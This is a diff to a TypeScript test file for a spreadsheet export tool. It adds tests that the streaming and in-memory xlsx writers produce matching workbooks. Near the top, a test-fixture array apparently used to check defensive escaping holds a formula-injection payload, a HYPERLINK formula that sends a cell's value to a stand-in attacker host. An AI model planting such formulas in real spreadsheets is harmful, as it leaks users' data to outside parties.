@@ -3,10 +3,14 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { inflateRawSync } from "node:zlib";
 import ExcelJS from "exceljs";
+import JSZip from "jszip";
 import { XMLParser } from "fast-xml-parser";
 import { readTableFromXlsx } from "../../src/cli/xlsxRead";
 import { writePlansToWorkbook, writePlansToXlsx, xlsxText } from "../../src/cli/xlsxRender";
+import { FUNCTIONS } from "../../src/functions/registry";
+import { buildRegisters } from "../../src/reports/registers";
 import { PlanValue, SheetPlan } from "../../src/reports/sheetplan";
+import { DEFAULT_RULEBOOK } from "../../src/rules/rulebook";
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -257,4 +261,114 @@ describe("xlsx writer: a report", () => {
     expect(ws.getCell("B1").isMerged).toBe(true);
     expect(ws.views[0]).toMatchObject({ state: "frozen", ySplit: 2 });
   }, 60_000);
+});
+
+describe("the streaming writer writes what the in-memory one writes", () => {
+  /** A sheet as a reader sees it: cells with their values and styles, layout, tables. */
+  function sheetModel(ws: ExcelJS.Worksheet) {
+    const cells: Record<string, unknown> = {};
+    const heights: Record<number, number | undefined> = {};
+    ws.eachRow({ includeEmpty: true }, (row, r) => {
+      if (row.height !== undefined) heights[r] = row.height;
+      row.eachCell({ includeEmpty: true }, (cell) => {
+        const style = JSON.parse(JSON.stringify(cell.style ?? {})) as object;
+        if (cell.value === null && cell.note === undefined && Object.keys(style).length === 0) return;
+        cells[cell.address] = { value: cell.value, note: cell.note, style };
+      });
+    });
+    const columns = (ws.columns ?? []).map((c) => ({ width: c.width, hidden: c.hidden }));
+    const model = ws.model as unknown as { merges: string[] };
+    return {
+      name: ws.name,
+      cells,
+      heights,
+      columns,
+      merges: [...model.merges].sort(),
+      views: ws.views,
+      pageSetup: ws.pageSetup,
+      headerFooter: ws.headerFooter,
+      tabColor: ws.properties.tabColor,
+      conditionalFormats: (ws as unknown as { conditionalFormattings: unknown[] }).conditionalFormattings,
+      validations: (ws as unknown as { dataValidations: { model: unknown } }).dataValidations.model,
+    };
+  }
+
+  /** The table parts' columns with their calculated formulas, and the workbook's defined names and calculation request. */
+  function fileParts(file: string) {
+    const parts = unzip(file);
+    const tables = [...parts.entries()]
+      .filter(([name]) => /^xl\/tables\/.*\.xml$/.test(name))
+      .map(([, xml]) => ({
+        name: /<table\b[^>]*?\bname="([^"]*)"/.exec(xml)![1],
+        ref: /<table\b[^>]*?\bref="([^"]*)"/.exec(xml)![1],
+        columns: [...xml.matchAll(/<tableColumn\b[^>]*?\bname="([^"]*)"[^>]*?(?:\/>|>(?:<calculatedColumnFormula>(.*?)<\/calculatedColumnFormula>)?<\/tableColumn>)/g)].map((m) => [m[1], m[2] ?? null]),
+      }))
+      .sort((a, b) => a.name.localeCompare(b.name));
+    const book = parts.get("xl/workbook.xml")!;
+    const notes = [...parts.entries()]
+      .filter(([name]) => /^xl\/comments\d*\.xml$/.test(name))
+      .flatMap(([, xml]) => [...xml.matchAll(/<comment\b[^>]*?\bref="([^"]*)"[^>]*>.*?<t\b[^>]*>([^<]*)/gs)].map((m) => `${m[1]} ${m[2]}`))
+      .sort();
+    return {
+      tables,
+      notes,
+      names: [...book.matchAll(/<definedName\b[^>]*>[^<]*<\/definedName>/g)].map((m) => m[0]).sort(),
+      fullCalcOnLoad: /<calcPr\b[^>]*fullCalcOnLoad="1"/.test(book),
+    };
+  }
+
+  async function bothWays(plans: SheetPlan[], base: string) {
+    const models = [];
+    for (const streaming of [false, true]) {
+      const file = join(dir, `${base}-${streaming ? "streamed" : "in-memory"}.xlsx`);
+      const result = await writePlansToXlsx(file, plans, { streaming });
+      expect(result.streamed).toBe(streaming);
+      // ExcelJS cannot read back the in-memory writer's tables with calculated columns (it loses
+      // their columns): the sheets are read without their table parts, the tables from their XML
+      const zip = await JSZip.loadAsync(readFileSync(file));
+      for (const part of zip.file(/^xl\/worksheets\/sheet\d+\.xml$/)) zip.file(part.name, (await part.async("string")).replace(/<tableParts\b.*?<\/tableParts>/, ""));
+      for (const part of zip.file(/^xl\/tables\//)) zip.remove(part.name);
+      const wb = new ExcelJS.Workbook();
+      await wb.xlsx.load((await zip.generateAsync({ type: "arraybuffer" })) as unknown as Parameters<typeof wb.xlsx.load>[0]);
+      models.push({ sheets: wb.worksheets.map(sheetModel), parts: fileParts(file), result: { ...result, streamed: undefined } });
+    }
+    return models;
+  }
+
+  test("the registers (tables with calculated columns, sheet-scoped names, validations) and a report read back the same", async () => {
+    const registers = buildRegisters(DEFAULT_RULEBOOK, FUNCTIONS, { lang: "zh", asOf: 46356 }).map((r) => r.plan);
+    const duplicateHeaders: SheetPlan = {
+      name: "重复表头",
+      ownerKey: "t:dup",
+      styles: { money: { numberFormat: "#,##0.00" }, input: { input: true, border: true } },
+      blocks: [
+        { row: 2, col: 1, values: [["金额", "金额", null, "x"], [1, 2, 3, "a"], [4, 5, 6, "b"]], columnStyles: ["money", "money"] },
+        { row: 7, col: 0, values: [[null, null]], style: "input" },
+      ],
+      charts: [{ kind: "stackedColumn", title: "空白处", data: { row: 2, col: 1, rows: 3, cols: 2 }, anchor: { row: 9, col: 3 }, width: 400, height: 300 }],
+      tables: [{ name: "Dup", area: { row: 2, col: 1, rows: 3, cols: 4 }, columnFormulas: [{ column: 2, formula: { formula: "=[@金额]*2" } }] }],
+      pageBreaks: [2],
+    };
+    const [inMemory, streamed] = await bothWays([...registers, reportPlan(40), duplicateHeaders], "same");
+    expect(streamed.sheets).toEqual(inMemory.sheets);
+    expect(streamed.parts).toEqual(inMemory.parts);
+    expect(streamed.result).toEqual(inMemory.result);
+    // what the comparison covers is really there
+    expect(streamed.parts.tables.length).toBe(registers.length + 1);
+    expect(streamed.parts.tables.some((t) => t.columns.some(([, formula]) => formula !== null))).toBe(true);
+    expect(streamed.parts.names.length).toBeGreaterThan(0);
+    expect(streamed.parts.fullCalcOnLoad).toBe(true);
+    expect(streamed.parts.tables.find((t) => t.name === "Dup")).toEqual({
+      name: "Dup",
+      ref: "B3:E5",
+      columns: [["金额", null], ["金额2", null], ["Column3", "Dup[[#This Row],[金额]]*2"], ["x", null]],
+    });
+    const dup = streamed.sheets.find((s) => s.name === "重复表头")!;
+    expect(dup.cells.A8).toMatchObject({ value: null, style: { fill: { fgColor: { argb: "FFFFF2CC" } }, protection: { locked: false } } });
+    expect(streamed.parts.notes).toContainEqual(expect.stringMatching(/^D10 LTC Desk: 图表「空白处」/));
+    expect(dup.cells.C4).toMatchObject({ value: 2, style: { numFmt: "#,##0.00" } });
+    const report = streamed.sheets.find((s) => s.name === "应收账龄")!;
+    expect(report.columns[2].width).toBe(14);
+    expect(report.conditionalFormats.length).toBe(1);
+  });
 });
